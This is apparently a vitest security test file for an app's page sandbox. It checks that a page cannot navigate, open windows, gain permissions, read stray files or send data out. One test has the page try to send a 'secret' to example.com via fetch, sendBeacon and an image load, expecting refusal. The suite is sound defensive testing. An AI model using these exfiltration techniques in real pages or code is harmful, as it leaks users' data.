import { expect } from 'vitest';
import { openPolicy } from '../mutants/edits.ts';
import { guards, secondGuards } from '../mutants/guards.ts';
import { patchedBuild } from '../mutants/patched-build.ts';
import { expectHeld, windowTest as it } from './support/window-test.ts';

it('it goes nowhere', ({ tried }) => expectHeld(tried, guards['the page stays where it is']));

it('it opens no window', ({ tried }) => expectHeld(tried, guards['a page opens no window']));

it('it gets no permission', ({ tried }) => expectHeld(tried, guards['a page gets no permission']));

it('it reads no file beside its own', ({ tried }) => expectHeld(tried, guards['only files of the window are served']));

it('it sends nothing, by any way a page has', async ({ tried: { page, app } }) => {
  const outcome = await page.evaluate(async () => {
    const fetched = await fetch('https://example.com/?secret').then(
      () => 'sent',
      () => 'refused',
    );
    const beacon = navigator.sendBeacon('https://example.com/?secret');
    const picture = await new Promise((resolve) => {
      const image = new Image();
      image.onload = () => resolve('sent');
      image.onerror = () => resolve('refused');
      image.src = 'https://example.com/?secret';
    });
    return { fetched, beacon, picture };
  });
  expect(outcome).toMatchObject({ fetched: 'refused', picture: 'refused' });
  expect(app.refusedRequests().filter(({ reason }) => reason === 'no handler')).toEqual([]);
});

it('it sends nothing where its policy is gone', async ({ start }) => {
  const build = await patchedBuild('security, no policy of connections', [openPolicy]);
  await expectHeld(await start(build), secondGuards['nothing goes out to the network']);
});
